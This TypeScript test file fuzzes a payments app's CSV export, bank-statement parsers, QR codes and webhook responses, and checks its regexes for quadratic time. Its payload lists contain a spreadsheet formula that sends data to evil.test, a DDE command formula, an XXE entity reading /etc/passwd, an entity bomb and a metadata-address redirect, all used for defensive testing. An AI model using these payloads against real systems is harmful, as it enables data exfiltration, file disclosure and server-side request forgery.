import { readdirSync, readFileSync } from 'node:fs';
import { stripTypeScriptTypes } from 'node:module';
import net from 'node:net';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { encode, tag, withCrcTag } from 'promptparse';
import { parseAst } from 'vite';
import { describe, expect, test } from 'vitest';
import { readSources } from '../../scripts/import-graph.ts';
import { column, formatHeader, formatLines, numberColumn } from '../../src/kit/csv.ts';
import { DomainError } from '../../src/kit/errors.ts';
import type { MethodCode } from '../../src/method/catalog.ts';
import { createDestination } from '../../src/method/destination.ts';
import { getScheme } from '../../src/method/schemes.ts';
import { isDelivered, parseRetryAfter } from '../../src/notification/notification-state.ts';
import { createPoster } from '../../src/notification/post.ts';
import { readBai2 } from '../../src/statement/bai2.ts';
import { readCamt } from '../../src/statement/camt.ts';
import { readCsv } from '../../src/statement/csv.ts';
import { guessCsvMapping } from '../../src/statement/csv-guess.ts';
import type { CsvMapping } from '../../src/statement/csv-mapping.ts';
import { readMt940 } from '../../src/statement/mt940.ts';
import { readOfx } from '../../src/statement/ofx.ts';
import { readQif } from '../../src/statement/qif.ts';
import { readStatement } from '../../src/statement/read-statement.ts';
import { count, isLongRun } from '../setup/counts.ts';
import { fileTest } from '../setup/fixtures.ts';
import { fuzz, mutateBytes } from '../setup/fuzz.ts';
import { camtXml, csvMapping, mt940Text, ntry, toChunks } from '../setup/statement-files.ts';
import { zip, zipFile } from '../setup/zip-files.ts';

describe('Exported CSV file', () => {
  type Row = { amount: string; texts: (string | null)[] };
  const columns = [
    column<Row>('id', () => 'ch_1'),
    numberColumn<Row>('amount', ({ amount }) => amount),
    ...[0, 1, 2].map((i) => column<Row>(`text${i}`, ({ texts }) => texts[i] ?? null)),
  ];
  const write = (rows: Row[]) => formatHeader(columns) + formatLines(columns, rows);

  const separators = [',', ';', '\t', '|'];

  /** Reads a file as leniently as spreadsheets do: only a quote at the start of a cell is a quote. */
  function readCells(file: string, separator: string, { quotes }: { quotes: boolean }): string[] {
    const cells: string[] = [];
    let cell = '';
    let isQuoted = false;
    for (let i = 0; i < file.length; i++) {
      const character = file[i]!;
      if (isQuoted) {
        if (character !== '"') cell += character;
        else if (file[i + 1] === '"') cell += file[++i];
        else isQuoted = false;
      } else if (quotes && character === '"' && cell === '') isQuoted = true;
      else if (character === separator || character === '\n' || character === '\r') {
        cells.push(cell);
        cell = '';
      } else cell += character;
    }
    return [...cells, cell];
  }

  /** Ignores a line end at the beginning, which belongs to the file. */
  const isFormula = (cell: string) =>
    /^(?:\t|\r(?!\n))/.test(cell) || /^[\p{C}\p{Z}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell);
  const isNumber = (cell: string) => /^-?\d+(?:\.\d+)?$/.test(cell);

  function findFormulas(file: string): string[] {
    return separators.flatMap((separator) =>
      [true, false].flatMap((quotes) =>
        readCells(file, separator, { quotes }).filter((cell) => isFormula(cell) && !isNumber(cell)),
      ),
    );
  }

  /** Texts of the characters that separate, quote, pad and start formulas. */
  const hostileText = fc
    .array(
      fc.oneof(
        fc.constantFrom(...'=+-@＝＋－＠﹦﹢﹣﹫'),
        fc.constantFrom(...',;|\t\r\n', '\r\n', '\v', '\u0085', '\u2028'),
        fc.constantFrom('"', '""', "'", ' ', '    ', '\u00a0', '\u200b', '\ufeff', '\u00ad', '\u3000', '\0'),
        fc.constantFrom('x', '1', 'cmd|', '-5', 'é', '茶', '🍵', '\ud800'),
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join(''));
  const row = fc.record({
    amount: fc.integer({ min: -99_999, max: 99_999 }).map((minor) => (minor / 100).toFixed(2)),
    texts: fc.array(fc.option(hostileText), { minLength: 3, maxLength: 3 }),
  });

  test('has no cell that begins a formula, for any separator, with or without quotes', () => {
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 3 }), (rows) => {
        expect(findFormulas(write(rows))).toEqual([]);
      }),
      { numRuns: count(2_000, 100_000) },
    );
  });

  test.each([
    "x;\"=cmd|' /C calc'!A1;y",
    'x;"=HYPERLINK("http://evil.test/?"&A1);y',
    'x\t"=1+1',
    'x;     =1+1',
    'x;\u00a0=1+1',
    'x;\u200b=1+1',
    'x|=1+1',
    'x,=1+1',
    '"=1+1',
  ])('has no formula of the text %j', (text) => {
    expect(findFormulas(`${text}\r\n`)).not.toEqual([]);
    expect(findFormulas(write([{ amount: '1.00', texts: [text, null, text] }]))).toEqual([]);
  });

  test('writes negative amounts as numbers, and everything else in their columns as text', () => {
    const lines = (amount: string) => formatLines(columns, [{ amount, texts: [] }]);
    expect(lines('-12.50')).toBe('ch_1,-12.50,,,\r\n');
    expect(lines('-12.50+1')).toBe("ch_1,'-12.50+1,,,\r\n");
  });

  test('escapes a text of 100,000 separators and spaces in linear time', () => {
    const text = '\t "'.repeat(33_333);
    const start = performance.now();
    formatLines(columns, [{ amount: '1', texts: [text, `${text}=1`, ' '.repeat(100_000)] }]);
    expect(performance.now() - start).toBeLessThan(10_000);
  });

  test('is written by one function only', () => {
    const writers = [...readSources()]
      .filter(([file, text]) => /^(?:src|schema)\//.test(file) && /\.join\('[,;]'\) \+/.test(text))
      .map(([file]) => file);
    expect(writers).toEqual(['src/kit/csv.ts']);
  });
});

describe('Uploaded file', () => {
  const folder = fileURLToPath(new URL('../fixtures/statements', import.meta.url));
  const readSamples = (format: string) =>
    format === 'zip'
      ? [zip(zipFile('a.xml', camtXml(ntry())), zipFile('b.sta', mt940Text(''), { descriptor: 'signature' }))]
      : readdirSync(join(folder, format))
          .filter((name) => /\.(?:xml|sta|txt|csv|ofx|qfx|qif|bai)$/.test(name))
          .map((name) => readFileSync(join(folder, format, name)));

  const names = [...'abcdefghij'];
  const entities = names.slice(1).map((name, i) => `<!ENTITY ${name} "${`&${names[i]};`.repeat(10)}">`);
  /** Each entity contains ten of the previous one. */
  const bomb = `<!DOCTYPE a [<!ENTITY a "xxxxxxxxxx">${entities.join('')}]>`;
  const hostile = [
    bomb,
    '<!DOCTYPE a SYSTEM "http://127.0.0.1:1/a.dtd">',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    '&j;',
    '&#x110000;',
    '&#0;',
    '<![CDATA[',
    ']]>',
    '<!--',
    '<?xml version="1.1" encoding="UTF-7"?>',
    '<a '.repeat(500),
    '<a>'.repeat(2_000),
    'x'.repeat(100_000),
    '\n'.repeat(20_000),
    '"',
    '""'.repeat(5_000),
    ','.repeat(20_000),
    ';\t,'.repeat(2_000),
    '\u0000',
    '\uFEFF',
    '\u202E',
    ':61:',
    '\r\n:86:',
    '\r\n-}\r\n{1:F01}{4:\r\n:20:X',
    '?00?20?21'.repeat(500),
    '/EREF/'.repeat(2_000),
    `${'9'.repeat(400)},${'9'.repeat(400)}`,
    '-',
    '99999999999999999999-99-99',
    '=HYPERLINK("http://127.0.0.1")',
    ' '.repeat(50_000),
  ].map((text) => Buffer.from(text));
  const encodings = [
    Buffer.from([0xff, 0xfe]),
    Buffer.from([0xfe, 0xff, 0]),
    Buffer.from([0xef, 0xbb, 0xbf]),
    Buffer.from([0xc3, 0x28]),
    Buffer.from([0x81, 0x30, 0x81]),
    Buffer.from([0xed, 0xa0, 0x80]),
  ];
  const payloads = [...hostile, ...encodings];

  /** Reads to the end, or expects an error about the file. */
  async function readOrReject(read: () => AsyncIterable<unknown>): Promise<void> {
    try {
      for await (const entry of read()) expect(entry).toBeTruthy();
    } catch (error) {
      expectRejection(error, ['invalid_statement', 'invalid_request', 'currency_unsupported']);
    }
  }

  /** Expects a short error about the input. */
  function expectRejection(error: unknown, codes: string[]): void {
    if (!(error instanceof DomainError)) throw error;
    expect(codes).toContain(error.code);
    expect(error.message.length).toBeLessThan(1_000);
  }

  test.each([
    ['camt', readCamt],
    ['mt940', readMt940],
    ['ofx', readOfx],
    ['qif', (source) => readQif(source, { currency: 'NZD', today: '2026-11-21' })],
    ['bai2', readBai2],
    ['zip', (source) => readStatement(source)],
  ] as [string, (source: AsyncIterable<Uint8Array>) => AsyncIterable<unknown>][])(
    'is read or rejected as a statement of %s',
    async (format, read) => {
      await fuzz(mutateBytes(readSamples(format), payloads), (bytes) =>
        readOrReject(() => read(toChunks(bytes))),
      );
    },
    3_600_000,
  );

  test('is read or rejected as CSV, with a detected or a given mapping', async () => {
    const samples = readSamples('csv');
    const givens: Partial<CsvMapping>[] = [
      {},
      { encoding: 'gb18030', delimiter: ';', decimalMark: ',', dateOrder: 'dmy' },
      {
        delimiter: '\t',
        hasHeader: false,
        dateColumn: '#1',
        amountColumn: '#2',
        skipLines: 1,
        hasBuddhistYears: true,
      },
    ];
    const cases = fc.tuple(
      mutateBytes(samples, payloads),
      fc.nat(givens.length),
      fc.constantFrom('HKD', 'IDR'),
    );
    await fuzz(cases, async ([bytes, choice, currency]) => {
      const givenMapping = givens[choice];
      await readOrReject(async function* () {
        const open = () => toChunks(bytes);
        const mapping = givenMapping
          ? csvMapping(givenMapping)
          : (await guessCsvMapping(open, { currency })).mapping;
        yield* readCsv(toChunks(bytes), { mapping, currency });
      });
    });
  }, 3_600_000);

  test('of any bytes is read or rejected according to its beginning', async () => {
    const heads = ['', '<?xml version="1.0"?><Document>', ':20:X\r\n:25:1\r\n', 'Date,Amount,Text\n'];
    const cases = fc.tuple(
      fc.constantFrom(...heads),
      fc.uint8Array({ maxLength: 400 }),
      fc.constantFrom(...payloads),
    );
    await fuzz(cases, ([head, bytes, payload]) =>
      readOrReject(() =>
        readStatement(toChunks(Buffer.concat([Buffer.from(head), bytes, payload])), {
          csv: { mapping: csvMapping(), currency: 'HKD' },
        }),
      ),
    );
  }, 3_600_000);

  test.for(['x,', ',', 'Account,', 'Period from 01/02/2026,'])(
    'with rows of as many cells "%s" as fit is read or rejected in linear time',
    async (cell) => {
      const row = `1,${cell.repeat(Math.floor(60_000 / cell.length))}\n`;
      const start = performance.now();
      for (const text of [`Date,Amount,Text\n${row}`, `${row}Date,Amount,Text\n`])
        await readOrReject(() =>
          readStatement(toChunks(Buffer.from(text)), { csv: { mapping: csvMapping(), currency: 'HKD' } }),
        );
      expect(performance.now() - start).toBeLessThan(10_000);
    },
  );

  const baseCodes: [MethodCode, string, string][] = [
    [
      'duit-now',
      'MYR',
      buildEmv({
        '26': [
          ['00', 'A0000006150001'],
          ['01', '501664'],
          ['02', '123456789'],
        ],
        '53': '458',
        '58': 'MY',
      }),
    ],
    [
      'instapay',
      'PHP',
      buildEmv({
        '28': [
          ['00', 'ph.ppmi.p2m'],
          ['01', 'PAPHPHM1XXX'],
          ['03', '102140529'],
          ['05', '033'],
        ],
        '53': '608',
        '58': 'PH',
      }),
    ],
    [
      'gojek-id',
      'IDR',
      buildEmv({
        '26': [
          ['00', 'COM.EXAMPLE.WWW'],
          ['01', '936000000000000000'],
        ],
        '51': [
          ['00', 'ID.CO.QRIS.WWW'],
          ['02', 'ID1020210000001'],
        ],
        '53': '360',
        '58': 'ID',
      }),
    ],
  ];

  function buildEmv(ownFields: Record<string, string | [string, string][]>): string {
    const fields: typeof ownFields = {
      '00': '01',
      '01': '11',
      '52': '5999',
      '59': 'KEDAI KOPI',
      '60': 'BANGI',
      ...ownFields,
    };
    const tags = Object.entries(fields)
      .sort(([a], [b]) => (a < b ? -1 : 1))
      .map(([id, value]) =>
        tag(id, typeof value === 'string' ? value : encode(value.map(([sub, text]) => tag(sub, text)))),
      );
    return withCrcTag(encode(tags), '63');
  }

  test.each(baseCodes)(
    'with a QR base code of %s is filled or rejected',
    async (method, currency, code) => {
      const texts = [
        '6304',
        '9999',
        '00',
        '0202',
        '🀄',
        '最佳',
        '\u202e',
        '\n',
        '26'.repeat(300),
        '<svg onload=x>',
        code,
      ];
      // Half of them with a valid checksum, because otherwise nothing else is read.
      const cases = fc.tuple(
        mutateBytes(
          [Buffer.from(code)],
          texts.map((text) => Buffer.from(text)),
        ),
        fc.boolean(),
        fc.boolean(),
      );
      await fuzz(cases, ([bytes, fits, demo]) => {
        const text = bytes.toString('utf8');
        const staticQrCode = fits ? withCrcTag(text.slice(0, -8), '63') : text;
        const scheme = getScheme(method);
        try {
          const details = scheme.parseDetails({ staticQrCode });
          const amount = { minor: 1_234_500n, currency };
          const destination = createDestination({
            method,
            details,
            holder: 'H',
            amount,
            paymentReference: 'BREW23456R',
            demo,
          });
          expect(destination.qrCode).toMatch(/6304[0-9A-F]{4}$/);
        } catch (error) {
          expectRejection(error, ['receiving_account_invalid']);
        }
      });
    },
    3_600_000,
  );
});

type Endpoint = { url: string; responses: Map<string, Buffer> };

/** An endpoint that sends the bytes stored for the path of a request. */
const endpointTest = fileTest.extend(
  'endpoint',
  { scope: 'file' },
  async ({ onFileCleanup }): Promise<Endpoint> => {
    const responses = new Map<string, Buffer>();
    const server = net.createServer((socket) => {
      socket.on('error', () => {});
      socket.once('data', (bytes) => {
        const path = /^POST (\S+)/.exec(bytes.toString('latin1'))?.[1] ?? '';
        socket.end(responses.get(path) ?? '');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    onFileCleanup(() => void server.close());
    return { url: `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`, responses };
  },
);

describe('Response to a notification', () => {
  const test = endpointTest;

  const timeoutMs = 10_000;
  const answerMax = 2_048;

  const ok = 'HTTP/1.1 200 OK\r\n';
  const samples = [
    `${ok}content-length: 6\r\n\r\nthanks`,
    `${ok}transfer-encoding: chunked\r\n\r\n6\r\nthanks\r\n0\r\n\r\n`,
    `${ok}connection: close\r\n\r\nthanks`,
    'HTTP/1.1 503 Busy\r\nretry-after: 120\r\ncontent-length: 0\r\n\r\n',
    'HTTP/1.1 302 Found\r\nlocation: http://169.254.169.254/\r\ncontent-length: 0\r\n\r\n',
    'HTTP/1.1 103 Early Hints\r\nlink: </a>\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n',
    'HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n',
    `${ok}content-encoding: gzip\r\ncontent-length: 20\r\n\r\n${'\u001f\u008b'.repeat(10)}`,
  ].map((text) => Buffer.from(text, 'latin1'));
  const payloads = [
    'content-length: 99999999999999999999\r\n',
    'content-length: -1\r\n',
    'content-length: 5\r\ncontent-length: 6\r\n',
    'transfer-encoding: chunked\r\n',
    'transfer-encoding: gzip, chunked\r\n',
    'fffffffffffffffffff\r\n',
    'retry-after: -1\r\n',
    'retry-after: 99999999999999999999999999\r\n',
    'retry-after: Wed, 99 Zzz 9999 99:99:99 GMT\r\n',
    `${'x: y\r\n'.repeat(3_000)}`,
    `x: ${'y'.repeat(100_000)}\r\n`,
    'HTTP/1.1 100 Continue\r\n\r\n'.repeat(1_000),
    'HTTP/9.9 000 \r\n',
    '\r\n\r\n',
    '\u0000',
    '\u00ff\u00fe',
    'z'.repeat(10_000),
    '<script>alert(1)</script>',
  ].map((text) => Buffer.from(text, 'latin1'));

  test('is read, or reported as a failure in a short text', async ({ endpoint }) => {
    const poster = createPoster({ allowPrivateTargets: true, timeoutMs });
    let posts = 0;
    let delivered = 0;
    await fuzz(
      fc.oneof(
        { weight: 9, arbitrary: mutateBytes(samples, payloads) },
        { weight: 1, arbitrary: fc.constantFrom(...samples) },
      ),
      async (bytes) => {
        const path = `/${posts++}`;
        endpoint.responses.set(path, bytes);
        const result = await poster.post({ url: endpoint.url + path, body: '{}', headers: {} });
        endpoint.responses.delete(path);
        expect(result.status === null || (result.status >= 200 && result.status <= 999)).toBe(true);
        if (result.status === null) expect(result.error).toMatch(/^.{5,120}$/s);
        expect(Buffer.byteLength(result.responseBody ?? '')).toBeLessThanOrEqual(3 * answerMax);
        expect((result.responseBody ?? '').includes('\0')).toBe(false);
        expect((result.responseBody ?? '').isWellFormed()).toBe(true);
        const waitMs = parseRetryAfter(result.retryAfter ?? undefined, new Date());
        expect(waitMs === null || (Number.isFinite(waitMs) && waitMs >= 0)).toBe(true);
        if (isDelivered(result)) delivered += 1;
      },
      { parallel: 20 },
    );
    expect(delivered).toBeGreaterThan(50);
    poster.close();
  }, 3_600_000);
});

describe('Regular expressions of the server', () => {
  /** Expressions by their beginning, each with the reason why its text is short. */
  const short: Record<string, string> = {
    '0+$': 'at most 15 decimals',
    '([\\s\\-/.,]*)\\b([A-Za-z]{3,9})': 'a cell of at most 100 characters',
    '\\s*(\\b(am|pm)': 'a cell of at most 100 characters',
    '\\s*[/|\\n]\\s*': 'a heading of at most 200 characters',
  };

  const textLength = count(8_000, 30_000);
  /** A quadratic expression takes several times as long, every other a hundredth. */
  const msMax = count(20, 400);
  const triesMax = 4;
  const root = fileURLToPath(new URL('../..', import.meta.url));

  type SourceExpression = { file: string; source: string; flags: string };
  type Node = { type?: string; regex?: { pattern: string; flags: string } } & Record<string, unknown>;

  function findExpressions(file: string): SourceExpression[] {
    const program = parseAst(stripTypeScriptTypes(readFileSync(file, 'utf8')));
    const expressions: SourceExpression[] = [];
    const visit = (node: unknown): void => {
      if (typeof node !== 'object' || node === null) return;
      const { regex } = node as Node;
      if (regex) expressions.push({ file: relative(root, file), source: regex.pattern, flags: regex.flags });
      for (const member of Object.values(node)) visit(member);
    };
    visit(program);
    return expressions;
  }

  const files = ['src', 'schema']
    .flatMap((folder) => readdirSync(join(root, folder), { recursive: true, withFileTypes: true }))
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((file) => file.endsWith('.ts') && !/src\/(?:dashboard|pages\/script)\//.test(file));
  const expressions = files.flatMap(findExpressions);

  /** Replaces the escapes of characters by the characters, and those of classes and assertions by nothing. */
  const escapes = /\\(?:u\{([\dA-Fa-f]+)\}|u([\dA-Fa-f]{4})|x([\dA-Fa-f]{2})|[pP]\{[^}]*\}|(.))/gs;
  const controls: Record<string, string> = { n: '\n', r: '\r', t: '\t', f: '\f', v: '\v', 0: '\0' };
  const decodeEscapes = (source: string) =>
    source.replace(escapes, (_, braced, four, two, letter = '') => {
      const code = braced ?? four ?? two;
      if (code !== undefined) return String.fromCodePoint(Number.parseInt(code, 16));
      return controls[letter] ?? (/\w/.test(letter) ? '' : letter);
    });

  /** The characters of an expression, some characters of each class, and combinations of them. */
  function createPumps({ source }: SourceExpression): string[] {
    const named = decodeEscapes(source);
    const all = [...new Set([...named, ...'a0 \t\n-./,(":_/<'])];
    const words = named.split(/[^\w/:.,]+/).filter((word) => word.length > 1);
    return [
      ...all,
      ...all.flatMap((character) => [`${character} `, `${character}0`, `${character}a`]),
      ...words,
    ];
  }

  const frames = [
    ['', '\u0001'],
    ['\u0001', '\u0001!'],
  ] as const;

  /** Returns a text whose repetition the expression takes too long for, if any. */
  function findSlowPump(source: SourceExpression): string | undefined {
    const expression = new RegExp(source.source, source.flags);
    return createPumps(source).find((pump) =>
      frames.some(([before, after]) => {
        const text = before + pump.repeat(Math.ceil(textLength / pump.length)) + after;
        // Measured several times, because a garbage collection takes time too.
        return Array.from({ length: triesMax }).every(
          () => measureMs(() => text.replace(expression, '')) > msMax,
        );
      }),
    );
  }

  /** CPU time, which does not depend on the load of the machine. */
  function measureMs(work: () => void): number {
    const started = process.cpuUsage();
    work();
    return process.cpuUsage(started).user / 1_000;
  }

  test('are found', () => expect(expressions.length).toBeGreaterThan(300));

  test('never need quadratic time', () => {
    const slow = expressions.flatMap((expression) => {
      const pump = findSlowPump(expression);
      return pump === undefined ? [] : [{ ...expression, pump }];
    });
    const isShort = ({ source }: SourceExpression) =>
      Object.keys(short).some((start) => source.startsWith(start));
    expect(slow.filter((expression) => !isShort(expression))).toEqual([]);
    // Unused reasons are removed; the texts of the short run may be fast on a fast machine.
    const needed = Object.keys(short).filter((start) => slow.some(({ source }) => source.startsWith(start)));
    if (isLongRun) expect(needed).toEqual(Object.keys(short));
  }, 600_000);
});
